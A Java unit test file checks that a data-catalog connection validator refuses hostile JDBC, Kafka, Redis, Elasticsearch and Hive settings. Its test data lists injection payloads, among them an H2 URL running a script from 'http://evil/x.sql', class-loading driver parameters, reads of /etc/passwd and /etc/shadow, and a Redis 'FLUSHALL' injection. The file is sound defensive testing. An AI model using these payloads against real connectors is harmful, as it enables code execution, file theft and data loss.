package io.sluice.catalog.datasource;

import static org.assertj.core.api.Assertions.assertThatCode;
import static org.assertj.core.api.Assertions.catchThrowableOfType;
import static org.assertj.core.api.Assertions.assertThat;

import io.sluice.catalog.common.CatalogException;
import java.util.Map;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

/** The per-kind allow-lists directly: hostile settings refused naming the field, ordinary ones accepted. */
class ConnectionRulesTest {

    private static final String PG = "jdbc:postgresql://db.example:5432/app";
    private static final String KAFKA = "broker1:9092,broker2:9092";

    @ParameterizedTest(name = "{0} {1}")
    @CsvSource(delimiter = '|', textBlock = """
            postgresql | url                 | jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil/x.sql'
            jdbc       | url                 | jdbc:h2:mem:x
            jdbc       | url                 | jdbc:sqlite:/etc/passwd
            jdbc       | url                 | jdbc:derby:memory:x;create=true
            mysql      | url                 | jdbc:postgresql://h:5432/db
            postgresql | url                 | jdbc:mariadb://h:3306/db
            postgresql | url                 | jdbc:postgresql://h:5432/db?socketFactory=org.example.Evil
            postgresql | url                 | jdbc:postgresql://h:5432/db?sslfactory=org.example.Evil
            postgresql | url                 | jdbc:postgresql://h:5432/db?loggerFile=/tmp/x
            postgresql | url                 | jdbc:postgresql://h:5432/db?sslmode=require&sslrootcert=/etc/shadow
            postgresql | url                 | jdbc:postgresql://h:5432/db?authenticationPluginClassName=org.example.Evil
            postgresql | url                 | jdbc:postgresql://h:5432/db?SOCKETFACTORY=org.example.Evil
            postgresql | url                 | jdbc:postgresql://h:5432/db?sslmode=disable%26loggerFile=/tmp/x
            postgresql | url                 | jdbc:postgresql://h:5432/db?sslmode=disable;loggerFile=/tmp/x
            postgresql | url                 | jdbc:postgresql://h:5432/db?sslmode=a&sslmode=b
            postgresql | url                 | jdbc:postgresql://h1:5432,h2:5432/db
            postgresql | url                 | jdbc:postgresql://user:pw@h:5432/db
            postgresql | url                 | jdbc:postgresql://h:99999/db
            postgresql | url                 | jdbc:postgresql://h:5432/db#x
            postgresql | url                 | jdbc:postgresql:db
            mysql      | url                 | jdbc:mariadb://h:3306/db?allowLoadLocalInfile=true
            mysql      | url                 | jdbc:mysql://h:3306/db?autoDeserialize=true
            mysql      | url                 | jdbc:mariadb://h:3306/db?socketFactory=org.example.Evil
            mysql      | url                 | jdbc:mariadb://h:3306/db?serverSslCert=/etc/passwd
            mysql      | url                 | jdbc:mysql://h:3306/db?allowUrlInLocalInfile=true
            mysql      | url                 | jdbc:mariadb:sequential://h:3306/db
            postgresql | loggerFile          | /tmp/pg.log
            mysql      | sessionVariables    | x=1
            kafka      | config.providers    | dir
            kafka      | config.providers.dir.class | org.apache.kafka.common.config.provider.DirectoryConfigProvider
            kafka      | interceptor.classes | org.example.Evil
            kafka      | sasl.login.callback.handler.class | org.example.Evil
            kafka      | sasl.client.callback.handler.class | org.example.Evil
            kafka      | sasl.login.class    | org.example.Evil
            kafka      | metric.reporters    | org.example.Evil
            kafka      | ssl.engine.factory.class | org.example.Evil
            kafka      | ssl.truststore.location | /etc/passwd
            kafka      | ssl.keystore.location | /etc/passwd
            kafka      | security.providers  | org.example.Evil
            kafka      | security.protocol   | ${env:HOME}
            kafka      | sasl.mechanism      | GSSAPI
            kafka      | sasl.mechanism      | OAUTHBEARER
            kafka      | client.id           | x${file:/etc/passwd:x}
            redis      | ssl.keystore        | /etc/passwd
            redis      | host                | h;FLUSHALL
            redis      | database            | 16
            elasticsearch | hosts.file       | /etc/passwd
            hive       | hive.aux.jars.path  | /tmp/evil.jar
            """)
    void hostileSettingsAreRefusedNamingTheField(String kind, String key, String value) {
        Map<String, String> properties = new java.util.HashMap<>(valid(DataSourceKind.valueOf(kind.toUpperCase())));
        properties.put(key, value);
        CatalogException refused = catchThrowableOfType(CatalogException.class, () -> ConnectionRules.check(
                DataSourceKind.valueOf(kind.toUpperCase()), "connection", new ConnectionConfig(properties, Map.of())));
        assertThat(refused).as(kind + " " + key + "=" + value).isNotNull();
        assertThat(refused.field()).isEqualTo("connection.properties." + key);
        assertThat(refused.getMessage()).doesNotContain(value);
    }

    @ParameterizedTest
    @CsvSource(delimiter = '|', textBlock = """
            com.sun.security.auth.module.Krb5LoginModule required useKeyTab="true" keyTab="/etc/krb5.keytab";
            org.apache.kafka.common.security.plain.PlainLoginModule required username="u" password="p"; com.sun.security.auth.module.JndiLoginModule required;
            org.apache.kafka.common.security.plain.PlainLoginModule required username="u" password="${file:/etc/passwd:x}";
            org.apache.kafka.common.security.plain.PlainLoginModule required username="u" unsecuredLoginStringClaim_sub="x";
            org.apache.kafka.common.security.plain.PlainLoginModule optional username="u" password="p";
            org.apache.kafka.common.security.oauthbearer.OAuthBearerLoginModule required;
            """)
    void jaasConfigsOtherThanPlainOrScramAreRefused(String jaas) {
        CatalogException refused = catchThrowableOfType(CatalogException.class, () -> ConnectionRules.check(
                DataSourceKind.KAFKA, "connection", new ConnectionConfig(valid(DataSourceKind.KAFKA), Map.of("sasl.jaas.config", jaas))));
        assertThat(refused).as(jaas).isNotNull();
        assertThat(refused.field()).isEqualTo("connection.secrets.sasl.jaas.config");
        assertThat(refused.getMessage()).doesNotContain(jaas);
    }

    @ParameterizedTest
    @CsvSource(delimiter = '|', textBlock = """
            postgresql | jdbc:postgresql://127.0.0.1/postgres
            postgresql | jdbc:postgresql://db.example:5432/app?sslmode=verify-full&connectTimeout=5&ApplicationName=sluice
            mysql      | jdbc:mariadb://127.0.0.1:3306/test?sslMode=trust&connectTimeout=5000
            mysql      | jdbc:mysql://[::1]:3306/test
            jdbc       | jdbc:postgresql://h:5432/db
            """)
    void ordinaryJdbcUrlsAreAccepted(String kind, String url) {
        assertThatCode(() -> ConnectionRules.check(DataSourceKind.valueOf(kind.toUpperCase()), "connection",
                new ConnectionConfig(Map.of("url", url, "username", "u"), Map.of()))).doesNotThrowAnyException();
    }

    @ParameterizedTest
    @CsvSource(delimiter = '|', textBlock = """
            org.apache.kafka.common.security.plain.PlainLoginModule required username="u" password="p";
            org.apache.kafka.common.security.scram.ScramLoginModule required username="u" password="p w!";
            """)
    void plainAndScramLoginsAreAccepted(String jaas) {
        Map<String, String> properties = Map.of(
                "bootstrap.servers", KAFKA, "security.protocol", "SASL_SSL", "sasl.mechanism", "SCRAM-SHA-512");
        assertThatCode(() -> ConnectionRules.check(DataSourceKind.KAFKA, "connection",
                new ConnectionConfig(properties, Map.of("sasl.jaas.config", jaas)))).doesNotThrowAnyException();
    }

    private static Map<String, String> valid(DataSourceKind kind) {
        return switch (kind) {
            case KAFKA -> Map.of("bootstrap.servers", KAFKA);
            case MYSQL -> Map.of("url", "jdbc:mariadb://h:3306/db", "username", "u");
            case POSTGRESQL, JDBC -> Map.of("url", PG, "username", "u");
            case REDIS -> Map.of("host", "h", "port", "6379");
            case ELASTICSEARCH -> Map.of("hosts", "http://h:9200");
            case HIVE -> Map.of("hive.metastore.uris", "thrift://h:9083");
            case HBASE -> Map.of("hbase.zookeeper.quorum", "h:2181");
        };
    }
}
